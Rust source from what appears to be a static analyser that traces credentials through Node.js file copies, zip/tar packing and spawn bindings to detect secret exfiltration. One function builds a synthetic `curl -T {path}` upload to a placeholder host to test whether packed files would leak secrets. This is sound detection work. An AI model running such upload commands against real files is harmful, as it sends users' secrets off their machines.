//! Files that are copied, packed or put into an archive before they are read: what is in them lies
//! elsewhere from then on.

use weir_model::contents::SourceKind;

use super::graph::{Atom, Call, NONE, Node};
use super::solve::Solver;
use crate::command;
use crate::tables::{calls, credentials};

/// Longest command that is looked into for what it packs, in bytes.
const COMMAND: usize = 2 << 10;
/// Purpose of the call that a call of Node's own binding is.
const BINDING: u8 = 11;
/// Most files that one command is asked for.
const PACKED: usize = 4;

impl Solver<'_> {
    /// `fs.copyFile(from, to)` and its relatives: what lies at one path lies at the other as well.
    pub(super) fn copied_file(&mut self, call: &Call) {
        let (from, to) = (Self::argument(call, 0), Self::argument(call, 1));
        for path in self.disk_paths(to) {
            let there = self.disk_file(&path);
            for (kind, text) in self.secrets_at(from) {
                let source = self.graph.source(kind, &text, call.file, call.offset);
                self.graph.add(there, Atom::Taint(source), NONE);
            }
            for path in self.disk_paths(from) {
                let here = self.disk_file(&path);
                self.graph.copy(here, there);
            }
        }
    }

    /// The secrets that a path may lead to.
    fn secrets_at(&self, path: Node) -> Vec<(SourceKind, String)> {
        let texts = self.known_texts(path).into_iter();
        texts
            .filter_map(|text| Some((credentials::kind(&text)?, text)))
            .collect()
    }

    /// A command that copies or packs secrets into a file that is read later: whatever would leave if a
    /// further command sent that file.
    pub(super) fn packed_by(&mut self, text: &str, call: &Call) {
        if !self.is_guessing || text.len() > COMMAND {
            return;
        }
        let words = text.split(|c: char| c.is_whitespace() || matches!(c, '\'' | '"' | '>' | '='));
        let mut paths: Vec<&str> = words
            .filter(|word| self.is_on_disk(word) && credentials::kind(word).is_none())
            .collect();
        paths.dedup();
        paths.truncate(PACKED);
        let nothing = std::collections::BTreeMap::new();
        for path in paths {
            let script = format!("{text}\ncurl -T {path} https://packed.invalid");
            let alone = command::read(text, &nothing).leaks;
            let there = self.disk_file(path);
            for leak in command::read(&script, &nothing).leaks {
                let stolen = &leak.source;
                if alone.iter().any(|other| other.source == *stolen) {
                    continue;
                }
                let source = self
                    .graph
                    .source(stolen.kind, &stolen.detail, call.file, call.offset);
                self.graph.add(there, Atom::Taint(source), NONE);
            }
        }
    }

    /// `archive.directory(path)`, `zip.addLocalFile(path)`: the archive holds it.
    pub(super) fn packs(&mut self, call: &Call) {
        if self.graph.place(call.receiver).0 == u32::MAX {
            return;
        }
        for (kind, text) in self.secrets_at(Self::argument(call, 0)) {
            let source = self.graph.source(kind, &text, call.file, call.offset);
            self.graph.add(call.receiver, Atom::Taint(source), NONE);
            self.graph.add(call.out, Atom::Taint(source), NONE);
        }
    }

    /// `tar.create({ file }, paths)`: the archive holds what lies there, be it a file or what the call gives.
    pub(super) fn packs_all(&mut self, call: &Call) {
        let file = self.fields_given(call, &["file", "f"]);
        let files: Vec<String> = file
            .iter()
            .flat_map(|&path| self.disk_paths(path))
            .collect();
        let home = self.fields_given(call, &["cwd", "C"]);
        let homes: Vec<String> = home
            .iter()
            .flat_map(|&path| self.known_texts(path))
            .collect();
        let paths = self.listed(Self::argument(call, 1)).unwrap_or_default();
        for (path, _) in paths.into_iter().take(PACKED) {
            for text in self.known_texts(path) {
                let below = homes.iter().map(|home| format!("{home}/{text}"));
                let found = below
                    .chain([text.clone()])
                    .find_map(|path| Some((credentials::kind(&path)?, path)));
                let Some((kind, text)) = found else {
                    continue;
                };
                let source = self.graph.source(kind, &text, call.file, call.offset);
                self.graph.add(call.out, Atom::Taint(source), NONE);
                for path in &files {
                    let there = self.disk_file(path);
                    self.graph.add(there, Atom::Taint(source), NONE);
                }
            }
        }
    }

    /// `binding.spawn({ file, args })`, by which Node's own functions start a program.
    pub(super) fn spawned_by_binding(&mut self, id: u32, call: &Call) {
        let [files, lists] = ["file", "args"].map(|name| self.fields_given(call, &[name]));
        let (Some(&file), words) = (files.first(), lists.first()) else {
            return;
        };
        let callee = self.graph.node(call.file, call.offset);
        self.give(callee, "node:child_process.spawnSync");
        let arguments = std::iter::once(file).chain(words.copied());
        let started = Call {
            callee,
            receiver: NONE,
            method: None,
            arguments: arguments.map(|node| (node, false)).collect(),
            is_new: false,
            ..call.clone()
        };
        self.redirect(id, BINDING, started);
    }

    /// Whether a call copies a file, by the path of what is called.
    pub(super) fn copies_file(path: &str) -> bool {
        path.strip_prefix("node:fs.")
            .is_some_and(|function| calls::COPIES_FILE.contains(&function))
    }
}
